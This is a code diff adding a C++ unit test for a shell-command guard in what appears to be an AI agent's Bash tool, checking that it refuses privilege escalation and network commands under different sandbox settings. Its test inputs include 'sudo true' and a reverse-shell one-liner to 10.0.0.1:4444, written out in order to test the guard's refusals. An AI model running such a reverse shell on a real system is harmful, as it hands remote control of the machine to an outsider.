@@ -393,6 +393,22 @@ TEST(BashTool, IsLabelledASendAndUntrustedWhenCommandsCanReachTheNetwork) {
   }
 }
 
+// The default guard is built on a thread of its own as the run starts (the first call waits
+// for it); it is the same guard, told the sandbox's network setting.
+TEST(BashTool, TheDefaultGuardBuiltAsTheRunStartsScreensTheFirstCall) {
+  for (const auto& [toml, network_rule] : std::vector<std::pair<std::string, std::string>>{
+           {"", "no-network"}, {"[sandbox]\nnetwork = true\n", "network-redirect"}}) {
+    auto config = config::parse_config(toml, "c.toml");
+    ASSERT_TRUE(config.ok()) << config.message();
+    auto tool = BashTool::create(*config);
+    ASSERT_TRUE(tool.ok()) << tool.message();
+    TempTree t;
+    EXPECT_EQ(run(**tool, t, "sudo true").refusal_rule, "privilege-escalation") << toml;
+    EXPECT_EQ(run(**tool, t, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").refusal_rule, network_rule)
+        << toml;
+  }
+}
+
 TEST(BashTool, ARuleWhosePatternDoesNotCompileFailsTheToolNamingFileAndLine) {
   auto config = config::parse_config(
       "[[guard.rules]]\nname = \"x\"\ncommand = \"(\"\nreason = \"r\"\nmatch = [\"a\"]\n",
